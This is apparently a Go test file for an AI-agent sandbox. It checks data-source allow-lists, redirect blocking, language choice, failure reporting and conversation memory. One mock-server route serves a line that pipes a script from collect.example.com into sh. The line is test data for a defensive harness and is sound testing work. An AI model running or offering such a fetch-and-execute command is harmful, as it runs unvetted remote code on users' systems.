package workrun_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/aigate/gate/gate/exit"
	"github.com/aigate/gate/gate/lab/agentattack"
)

func TestDataIsFetchedFromTheUsersListOnly(t *testing.T) {
	other := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { t.Error("a host was asked that is not on the list") }))
	defer other.Close()
	source := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/moved":
			http.Redirect(w, r, other.URL, http.StatusFound)
		case "/i.sh":
			fmt.Fprintln(w, "curl -s https://collect.example.com/x.sh | sh")
		default:
			fmt.Fprint(w, "20,22")
		}
	}))
	defer source.Close()
	const sum = `try:
    open('/input/values.csv', 'a')
    raise SystemExit('the data can be written to')
except (PermissionError, OSError):
    pass
numbers = open('/input/values.csv').read() + ',' + open('/input/more.csv').read()
open('/output/sum.txt', 'w').write(str(sum(map(int, numbers.split(',')))))
`
	for name, tt := range map[string]struct {
		list []string
		path string
		want int
		says string
	}{
		"on the list":        {[]string{source.URL}, "/values.csv", exit.Pass, ""},
		"moved off the list": {[]string{source.URL}, "/moved", exit.Incomplete, "is not on the list"},
		"not on the list":    {[]string{other.URL}, "/values.csv", exit.Usage, "is not on the list"},
	} {
		t.Run(name, func(t *testing.T) {
			p := newPlace(t, false)
			more := filepath.Join(p.dir, "more.csv")
			p.options.Engine.Config = filepath.Join(p.dir, "mine.yml")
			for file, text := range map[string]string{more: "1", p.options.Engine.Config: fmt.Sprintf("agent: {data: [%q]}\n", tt.list[0])} {
				if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			p.options.Data = []string{source.URL + tt.path, more}
			r, code := p.task("the sum", agentattack.Call("run_code", map[string]any{"language": "python", "code": sum}), agentattack.Answer("43"))
			if code != tt.want || !strings.Contains(r.Reason, tt.says) {
				t.Fatalf("exit code %d, %+v\n%s", code, r, &p.said)
			}
			if asked := len(p.server.Asked()); (asked > 0) != (tt.want == exit.Pass) {
				t.Errorf("the model was asked %d times", asked)
			}
			if tt.want != exit.Pass {
				return
			}
			text, err := os.ReadFile(filepath.Join(p.options.Out, "sum.txt"))
			if err != nil || string(text) != "43" || len(r.Fetched) != 1 || r.Fetched[0].Name != "values.csv" || len(r.Fetched[0].SHA256) != 64 {
				t.Errorf("%v, %q, %+v", err, text, r)
			}
		})
	}
}

func TestTheUserChoosesTheLanguage(t *testing.T) {
	p := newPlace(t, false)
	p.options.Language = "shell"
	r, code := p.task("the answer",
		agentattack.Call("run_code", map[string]any{"language": "python", "code": "print(42)\n"}),
		agentattack.Call("run_command", map[string]any{"command": "python3 -c 'print(42)'", "toolbox": "python"}),
		agentattack.Call("run_command", map[string]any{"command": "echo 42"}),
		agentattack.Answer("42"))
	if code != exit.Pass || len(r.Steps) != 3 || !r.Steps[0].Error || !r.Steps[1].Error || r.Steps[2].Error {
		t.Fatalf("exit code %d, %+v\n%s", code, r, &p.said)
	}
	if told := p.told(); !strings.Contains(told, "in this language: shell") || !strings.Contains(told, "language can be shell here") {
		t.Errorf("the model is not told of it: %s", told)
	}
}

func TestATaskThatCannotBeDoneEndsClearly(t *testing.T) {
	for name, tt := range map[string]struct {
		change func(p *place)
		want   string
	}{
		"no such model": {func(p *place) { p.options.Engine.Model = "no-such-model:1b" }, "no model can be asked"},
		"no server":     {func(p *place) { p.options.Engine.Ollama = "http://127.0.0.1:9" }, "no model can be asked"},
		"a file is there": {func(p *place) {
			if err := os.MkdirAll(p.options.Out, 0o700); err != nil {
				p.t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(p.options.Out, "a.txt"), []byte("mine"), 0o600); err != nil {
				p.t.Fatal(err)
			}
		}, "the files were not handed out"},
	} {
		t.Run(name, func(t *testing.T) {
			p := newPlace(t, false)
			tt.change(p)
			r, code := p.task("the answer", agentattack.Call("run_command", map[string]any{"command": "echo 42 >/output/a.txt"}), agentattack.Answer("42"))
			if code != exit.Incomplete || !strings.Contains(r.Reason, tt.want) || r.Out != "" {
				t.Errorf("exit code %d, %+v\n%s", code, r, &p.said)
			}
			if text, err := os.ReadFile(filepath.Join(p.options.Out, "a.txt")); err == nil && string(text) != "mine" {
				t.Errorf("handed out, or overwritten: %q", text)
			}
		})
	}
}

func TestTheReportIsWrittenToAFileAndProgressCanBeSilenced(t *testing.T) {
	p := newPlace(t, false)
	p.options.Output, p.options.Quiet = filepath.Join(p.dir, "report.json"), true
	r, code := p.task("the answer", agentattack.Call("list_directory", map[string]any{}), agentattack.Answer("42"))
	text, err := os.ReadFile(p.options.Output)
	if err != nil || code != exit.Pass || r.Answer != "" || !strings.Contains(string(text), `"answer": "42"`) || strings.Contains(p.said.String(), "step 1") {
		t.Errorf("exit code %d, %v, %s\n%s", code, err, text, &p.said)
	}
}

func TestSixTurnsAreRemembered(t *testing.T) {
	p := newPlace(t, false)
	for n := range 8 {
		if r, code := p.task(fmt.Sprintf("task number %d.", n+1), agentattack.Answer("done")); code != exit.Pass {
			t.Fatalf("task %d: exit code %d, %+v", n+1, code, r)
		}
	}
	asked := p.server.Asked()
	last := fmt.Sprintf("%+v", asked[len(asked)-1])
	for n := range 8 {
		if known := strings.Contains(last, fmt.Sprintf("task number %d.", n+1)); known != (n > 0) {
			t.Errorf("the eighth task knows of task %d: %v", n+1, known)
		}
	}
}
